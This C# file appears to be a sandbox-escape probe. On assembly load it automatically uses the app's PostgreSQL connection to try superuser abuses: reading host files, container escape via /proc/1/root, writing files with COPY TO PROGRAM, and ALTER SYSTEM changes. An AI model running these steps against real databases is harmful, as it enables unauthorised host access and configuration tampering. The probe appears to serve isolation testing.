using System.Runtime.CompilerServices;
using Npgsql;

// A superuser in SQL is whoever the server runs as: reads its files, starts its programs.
internal static class Attack
{
    private static readonly string[] Paths = [@HOST_PATHS@];

    [ModuleInitializer]
    internal static void Begin() => new Thread(Try) { IsBackground = true }.Start();

    private static void Try()
    {
        var connectionString = Environment.GetEnvironmentVariable("ConnectionStrings__Database");
        if (connectionString is null) return;
        connectionString += ";Pooling=false";
        foreach (var path in Paths)
        {
            Ask(connectionString, $"SELECT 'sees ' || '{path}' FROM pg_stat_file('{path}', true) WHERE size IS NOT NULL");
            Ask(connectionString, $"SELECT 'sees ' || '/proc/1/root{path}' FROM pg_stat_file('/proc/1/root{path}', true) WHERE size IS NOT NULL");
            Ask(connectionString, $"COPY (SELECT 'attack') TO '{path}/attack'", "writes into " + path);
            Ask(connectionString, $"COPY (SELECT 'attack') TO PROGRAM 'cat > {path}/attack'", "runs a program that writes into " + path);
        }

        Ask(connectionString, "COPY (SELECT 1) TO PROGRAM 'true'", "runs programs");
        Ask(connectionString, "ALTER SYSTEM SET enable_indexscan = off");
        Ask(connectionString, "SELECT NULL FROM pg_reload_conf()");
        Console.WriteLine($"TRIED {Paths.Length} paths; {Ask(connectionString, "SELECT 1 FROM pg_roles WHERE rolname = current_user AND rolsuper")}");
    }

    // Says so when it got an answer; with a sentence of its own where the statement returns nothing. Each over a connection of its own: some end it.
    private static string Ask(string connectionString, string sql, string? sentence = null)
    {
        try
        {
            using var connection = new NpgsqlConnection(connectionString);
            connection.Open();
            using var command = new NpgsqlCommand(sql, connection);
            var answer = command.ExecuteScalar();
            if (sentence is not null || answer is string) Console.WriteLine($"ESCAPED {sentence ?? answer}");
            return answer is null ? "no superuser" : "a superuser";
        }
        catch (NpgsqlException refused)
        {
            return refused.Message;
        }
    }
}
